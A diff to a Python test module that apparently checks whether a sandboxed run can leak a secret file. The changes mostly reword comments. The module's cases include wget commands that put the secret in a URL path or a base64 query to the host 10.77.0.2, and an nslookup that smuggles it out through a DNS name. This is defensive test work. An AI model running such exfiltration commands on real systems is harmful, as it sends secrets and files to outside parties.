@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Leaks by language and tool: the bytes as they are, or nearly, by whatever reads and sends."""
+"""Leaks by language and tool: each reads and sends the bytes as they are, or nearly so."""
 
 from row import PRELUDE, Leak, holds, python, snippet
 from guest_run import SECRET
@@ -80,11 +80,11 @@ def scripts():
     }
 
 
-# What goes before the data is the same in both runs.
+# Headers before the data are the same in both runs, so they may arrive.
 HEADERS = {name: rb"(POST [^\n]*\n([A-Za-z-]+: [^\n]*\n)*)?" for name in ("wget-file", "wget-data", "python-http")}
 LEAKS = [Leak(name, script, passes=HEADERS.get(name, b"")) for name, script in scripts().items()]
 LEAKS += [
-    # In a name.
+    # The secret is part of a name.
     Leak("wget-path", "wget -q -T 5 -O - \"http://10.77.0.2/$(sed -n '2s/.*,//p' secret)\""),
     Leak("wget-query", "wget -q -T 5 -O - \"http://10.77.0.2/?$(base64 -w 0 secret)\""),
     Leak("name-service", "timeout 1 nslookup \"$(sed -n '2s/.*,//p' secret).example.org\" 10.77.0.2; true", shows=holds(SECRET)),
